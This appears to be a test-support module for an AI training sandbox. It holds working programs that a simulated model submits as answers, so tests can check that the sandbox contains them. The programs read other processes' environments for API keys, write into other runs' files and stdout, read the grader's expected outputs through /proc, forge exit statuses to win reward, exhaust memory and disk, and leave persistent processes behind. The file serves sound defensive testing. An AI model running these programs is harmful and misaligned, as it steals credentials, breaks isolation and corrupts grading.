"""Model-written programs that try to get out of the sandbox, as an attacker would write them (issue 31), and a
simulated model that writes them. Each prints what it managed, so a test can assert that it managed nothing.

- `spy`: reads host processes' command lines and environments, files it names, writes where it names, and for a
  few seconds looks for other runs' directories and processes: reads their programs, plants a link or a FIFO where
  the harness writes next, writes into their directories and their stdout; leaves files behind everywhere.
- `cheat`: finds the run's input file through its parents' command lines and prints the expected output.
- `forge`: says on stderr what the old launcher said when a program could not start, and exits with its code.
- `hoard`: three children, each after `each_mb` of resident memory; prints how much they held at once.
- `fill`: writes files of a few MB everywhere it can until refused; prints how many bytes it got down.
- `stash`: has the kernel hold memory for it outside its address space and its tmpfs (System V shared memory,
  touched and detached; memfds, each under the file-size limit); prints how many MB each held at once.
- `grab`: answers a + b, but exits 0 only if it took the host's AIO contexts (`io_setup(65536)`) or forged its
  exit status through the sandbox's init (its eventfd, by pidfd_getfd): it scores 1 only through either.
- `linger`: leaves a process (setsid, SIGTERM ignored), files in /tmp, /var/tmp, /dev/shm and a SysV segment.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from agentroll.sim.programs import call_text
from agentroll.sim.script import SOLVER_CODES, Script, Scripted

SPY = """import json, os, sys, time
READ, WRITE, TARGET, MARK = {read!r}, {write!r}, {target!r}, {mark!r}
found = []
def note(what):
    if what not in found:
        found.append(what[:200])
mine = {{str(os.getpid()), str(os.getppid()), "self", "thread-self"}}
for pid in os.listdir("/proc"):
    if not pid.isdigit() or pid in mine:
        continue
    try:
        cmd = open(f"/proc/{{pid}}/cmdline", "rb").read().replace(b"\\0", b" ").decode("utf-8", "replace")
    except OSError:
        continue
    if "agentroll" in cmd or "pytest" in cmd or "--api-key" in cmd:
        note("a host process: " + cmd)
    try:
        env = open(f"/proc/{{pid}}/environ", "rb").read().decode("utf-8", "replace")
    except OSError:
        env = ""
    for item in env.split("\\0"):
        if item.startswith("OPENAI_API_KEY="):
            note("a host environment: " + item)
    if "main.py" in cmd:
        try:
            with open(f"/proc/{{pid}}/fd/1", "w") as out:
                out.write("forged\\n")
            note("wrote to the stdout of another run: " + pid)
        except OSError:
            pass
for path in READ:
    try:
        note("read " + path + ": " + open(path, errors="replace").read(60))
    except OSError:
        pass
for path in WRITE:
    try:
        with open(path, "x") as f:
            f.write("planted")
        note("wrote " + path)
    except OSError:
        pass
here = os.path.realpath(os.getcwd())
end = time.monotonic() + 3
while time.monotonic() < end and not any(f.startswith("another run") for f in found):
    for base in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            names = os.listdir(base)
        except OSError:
            continue
        for name in names:
            where = os.path.join(base, name)
            if not name.startswith("agentroll-sandbox") or os.path.realpath(where) == here:
                continue
            try:
                note("another run's program: " + open(os.path.join(where, "main.py")).read(40))
            except OSError:
                pass
            try:
                os.symlink(TARGET, os.path.join(where, "main.py"))
                note("another run: planted a link in " + where)
            except OSError:
                pass
            try:
                os.mkfifo(os.path.join(where, "stdin.txt"))
                note("another run: planted a FIFO in " + where)
            except OSError:
                pass
            try:
                with open(os.path.join(where, "forged"), "x"):
                    note("another run: wrote into " + where)
            except OSError:
                pass
for base in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        with open(os.path.join(base, MARK), "w") as f:
            f.write("left behind")
    except OSError:
        pass
print(json.dumps(found))
"""

CHEAT = """import json, os, sys
given = sys.stdin.read()
seen = set()
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    try:
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        cwd = "/"
    for arg in args:
        name = os.path.join(cwd, arg.decode("utf-8", "replace"))
        if not name.endswith(".jsonl") or name in seen:
            continue
        seen.add(name)
        try:
            rows = [json.loads(line) for line in open(name) if line.strip()]
        except (OSError, ValueError):
            continue
        for row in rows:
            tests = row.get("label")
            tests = json.loads(tests) if isinstance(tests, str) else tests
            for put, out in zip(tests.get("inputs", []), tests.get("outputs", [])):
                if put.rstrip("\\n") == given.rstrip("\\n"):
                    print(out, end="")
                    sys.exit(0)
print("nothing found")
"""

FORGE = """import sys
sys.stderr.write("sandbox: the program could not start: [Errno 13] Permission denied\\n")
sys.exit(125)
"""

HOARD = """import os, sys
EACH, CHILDREN = {each_mb}, 3
held, pipes = [], []
for _ in range(CHILDREN):
    r, w = os.pipe()
    go_r, go_w = os.pipe()
    try:
        pid = os.fork()
    except OSError as exc:
        print("fork refused:", exc, file=sys.stderr)
        break
    if pid == 0:
        os.close(r)
        blocks = []
        try:
            while len(blocks) < EACH:
                blocks.append(b"x" * (1 << 20))  # written: resident, not only reserved
                os.write(w, b"1")
        except MemoryError:
            pass
        os.write(w, b"!")
        os.read(go_r, 1)  # hold it until the parent has counted every child
        os._exit(0)
    os.close(w)
    pipes.append((r, go_w, pid))
for r, _, pid in pipes:
    got = 0
    while True:
        chunk = os.read(r, 4096)
        if not chunk:  # the child is gone (killed): it holds nothing
            got = 0
            break
        got += chunk.count(b"1")
        if chunk.endswith(b"!"):  # it holds what it got until told to let go
            break
    held.append((pid, got))
alive = [got for pid, got in held if os.waitpid(pid, os.WNOHANG)[0] == 0]  # killed since: holds nothing
print(sum(alive))
sys.stdout.flush()
for _, go, _ in pipes:
    try:
        os.write(go, b"x")
    except OSError:
        pass
"""

FILL = """import os, sys
WANT = {want_mb} << 20
block = b"x" * (4 << 20)
written, n = 0, 0
for base in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    failed = 0
    while written < WANT and failed < 3:
        try:
            with open(os.path.join(base, f"fill-{{n}}"), "wb") as f:
                n += 1
                f.write(block)
            written += len(block)
        except OSError:
            failed += 1
print(written >> 20)
"""

STASH = """import ctypes, json, os
WANT, BLOCK = {want_mb} << 20, 32 << 20
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
held = {{"sysv": 0, "memfd": 0}}
while held["sysv"] < WANT:
    segment = libc.shmget(0, BLOCK, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
    address = libc.shmat(segment, None, 0) if segment >= 0 else None
    if address in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(address, 1, BLOCK)  # written: the pages are the kernel's to keep until the segment goes
    libc.shmdt(ctypes.c_void_p(address))
    held["sysv"] += BLOCK
kept, chunk = [], b"x" * (1 << 20)
try:
    while held["memfd"] < WANT:
        fd = os.memfd_create("stash")
        kept.append(fd)
        for _ in range(BLOCK >> 20):
            os.write(fd, chunk)
        held["memfd"] += BLOCK
except OSError:
    pass
print(json.dumps({{name: size >> 20 for name, size in held.items()}}))
"""

GRAB = """import ctypes, os, struct, sys
a, b = map(int, input().split())
print(a + b, flush=True)
libc = ctypes.CDLL(None, use_errno=True)
context = ctypes.c_ulong(0)
if libc.syscall(206 if os.uname().machine == "x86_64" else 0, 65536, ctypes.byref(context)) == 0:
    sys.exit(0)  # the whole host's AIO contexts, held until it ends
pidfd = libc.syscall(434, 1, 0)  # pidfd_open of the sandbox's init
for fd in range(3, 10):
    taken = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd: init's eventfd, whose count bwrap reports as the exit
    if taken >= 0:
        try:
            os.write(taken, struct.pack("=Q", 1))
        except OSError:
            pass
sys.exit(1)
"""

LINGER = """import ctypes, os, signal, sys, time
MARK = {mark!r}
for base in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(os.path.join(base, MARK), "w") as f:
            f.write("x" * 4096)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget({key}, 1 << 20, 0o1000 | 0o666)  # IPC_CREAT
print("segment", segment)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):  # a daemon's manners: it holds no one's pipes
            os.dup2(null, fd)
        os.execv("/bin/sleep", ["sleep", {marker_seconds!r}])
    os._exit(0)
time.sleep(0.2)
print("left")
"""


def spy(read: list[str], write: list[str], target: str, mark: str) -> str:
    return SPY.format(read=read, write=write, target=target, mark=mark)


def hoard(each_mb: int) -> str:
    return HOARD.format(each_mb=each_mb)


def fill(want_mb: int) -> str:
    return FILL.format(want_mb=want_mb)


def stash(want_mb: int) -> str:
    return STASH.format(want_mb=want_mb)


def linger(mark: str, key: int, marker_seconds: str) -> str:
    return LINGER.format(mark=mark, key=key, marker_seconds=marker_seconds)


@dataclass(slots=True)
class Writes(Script):
    """The simulated model, writing `program` as every answer to a code problem (None: as the script would) and
    `tool_code` into every python tool call (None: as the script would)."""

    program: str | None = None
    tool_code: str | None = None

    def _program(self, think: str, tests: dict[str, Any], rng: Any, says: str = SOLVER_CODES) -> Scripted:
        if self.program is None:
            return Script._program(self, think, tests, rng, says)
        return Scripted(f"{think}</think>\n\n{says}\n```python\n{self.program}```")

    def _call(self, prompt: str, tools: list[dict[str, Any]], rng: Any) -> str:
        if self.tool_code is None:
            return Script._call(self, prompt, tools, rng)
        return call_text("python", {"code": self.tool_code})


def code_rows(count: int, secret: bool = False) -> list[dict[str, Any]]:
    """Code problems of three stdin tests each; `secret`: outputs no program can compute (random words)."""
    import uuid

    rows = []
    for i in range(count):
        inputs = [f"{i} {j}\n" for j in range(3)]
        outputs = [uuid.uuid4().hex + "\n" if secret else f"{i + j}\n" for j in range(3)]
        rows.append(
            {
                "id": f"c{i}",
                "prompt": f"Read a and b, print a + b (case {i}).",
                "label": {"inputs": inputs, "outputs": outputs},
            }
        )
    return rows


def write_rows(path: Any, rows: list[dict[str, Any]]) -> Any:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path
